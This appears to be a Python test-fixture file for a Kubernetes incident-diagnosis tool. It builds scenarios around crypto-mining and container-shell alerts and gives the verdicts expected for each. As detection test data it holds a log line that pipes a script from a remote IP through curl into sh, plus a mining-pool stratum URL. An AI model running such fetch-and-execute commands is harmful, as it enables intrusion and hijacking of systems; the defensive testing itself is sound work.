"""Alarms of those who watch for intruders, where what they saw is the house's own, and where it may not be."""

from __future__ import annotations

from typing import Any

from tests.diagnosis.rules.cases import ASK, HEALTHY, Answers
from tests.diagnosis.rules.pods import pods_of
from tests.diagnosis.rules.scenes import OLD, SHOP, WELL, shop
from tests.diagnosis.rules.tiny import DAY, NOW, Obj, at, figure, log, pod, snapshot, workload
from tuheg_ir.diagnosis.model import Alert, Snapshot


def watched(name: str, said: str, **labels: str) -> Alert:
    return Alert(name, labels, {"summary": said}, "firing", NOW)


def connects(
    setting: str = "tcp://cart:3333",
    said: str = "shop connects to a port of mining pools (tcp/3333)",
    *,
    port: int = 3333,
    busy: float = 0.1,
    released: float = 20 * DAY,
    told: str = "connected",
) -> Snapshot:
    """Return a shop that a watcher sees connect to a port, as its settings tell it, and how busy it is."""
    figures = [figure("cpu_share", 0.1, busy, pod=pod("shop", n), container="shop") for n in range(2)]
    figures += [figure("cpu_share", 0.1, 0.1, pod=pod("cart", n), container="cart") for n in range(2)]
    return snapshot(
        shop(env={"LOBBY": setting}, before=OLD, released=released),
        workload("cart", port=port),
        logs=[log(pod("shop"), told)],
        figures=[WELL, *figures],
        alerts=[watched("PossibleCryptoMining", said, deployment="shop", severity="critical")],
    )


TOOL = "registry.example/tools/netshoot:1"


def looked_into(
    image: str = TOOL,
    signed: str = "INC-207, r.okafor",
    *,
    ended: bool = True,
    said: str = "bash in container_name=debugger-7x k8s_pod_name={}",
    told: str = "GET / 200",
    **spec: Any,
) -> Snapshot:
    """Return a shop in a pod of which somebody had a debugger, and the alarm for its shell."""
    objects: list[Obj] = shop()
    one = pods_of(objects)[0]
    one["metadata"]["annotations"] = {"example.org/debug": signed} if signed else {}
    one["spec"]["ephemeralContainers"] = [{"name": "debugger-7x", "image": image, "command": ["bash"], **spec}]
    state = {"terminated": {"exitCode": 0, "finishedAt": at(600)}} if ended else {"running": {"startedAt": at(900)}}
    one["status"]["ephemeralContainerStatuses"] = [{"name": "debugger-7x", "image": image, "state": state}]
    alarm = watched("TerminalShellInContainer", said.format(pod("shop")), severity="warning")
    return snapshot(objects, workload("cart"), logs=[log(pod("shop"), told)], figures=[WELL], alerts=[alarm])


THEFT = "sh: curl -fsSL http://203.0.113.7/a.sh | sh"
INTRUDED = (SHOP, "security_incident", "isolate_workload")
ANSWERS = [
    Answers("a port of miners is that of a neighbour, whom the settings name", connects(), [(SHOP, *HEALTHY)]),
    *(
        Answers(f"a port of miners, and {what}", world, [(SHOP, *ASK)])
        for what, world in (
            ("no setting names it", connects("tcp://cart:8080")),
            ("the settings name a stranger", connects("tcp://pool.example:3333")),
            ("the neighbour has no such port", connects(port=8080)),
            ("the settings came today", connects(released=7200)),
            ("the far end is a stranger", connects(said="shop connects to 203.0.113.4:3333 (tcp/3333)")),
        )
    ),
    Answers("a port of miners, and something mines", connects(told="stratum+tcp://pool.example:3333"), [INTRUDED]),
    Answers("a shell was a colleague's debugger, who signed for it", looked_into(), [(SHOP, *HEALTHY)]),
    *(
        Answers(f"a shell in a pod, and {what}", world, [(SHOP, *ASK)])
        for what, world in (
            ("nobody signed for it", looked_into(signed="")),
            ("who signed gave no reason", looked_into(signed="yes")),
            ("the tool is from elsewhere", looked_into("docker.io/stranger/tools:1")),
            ("it is still open", looked_into(ended=False)),
            ("the debugger has the node", looked_into(securityContext={"privileged": True})),
            ("it was in another container", looked_into(said="bash in container_name=shop k8s_pod_name={}")),
        )
    ),
    Answers("a debugger was signed, and then something was fetched and run", looked_into(told=THEFT), [INTRUDED]),
]
